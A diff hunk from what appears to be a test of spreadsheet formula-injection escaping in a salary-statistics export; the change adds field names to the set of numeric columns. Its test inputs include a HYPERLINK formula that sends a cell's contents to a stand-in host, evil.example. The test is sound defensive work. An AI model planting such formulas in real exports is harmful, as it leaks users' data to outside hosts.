@@ -19,7 +19,8 @@ hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Apply")', "-Data Engineer",
            "@SUM(A1:A9)", "+1 555 0100"]
 numeric = {"salary_min", "salary_max", "annual_min", "annual_max", "annual_factor",
            "postings", "n", "min", "p10", "p25", "median", "p75", "p90", "max", "mean",
-           "converted", "other_currency", "unknown_period", "estimates", "estimated"}
+           "converted", "other_currency", "unknown_period", "estimates", "estimated",
+           "with_salary", "typical_min", "typical_max", "small_group", "threshold"}
 cells = [v for r in rows for k, v in r.items() if k not in numeric]
 for h in hostile:
     want = h if mode == "raw" else "'" + h
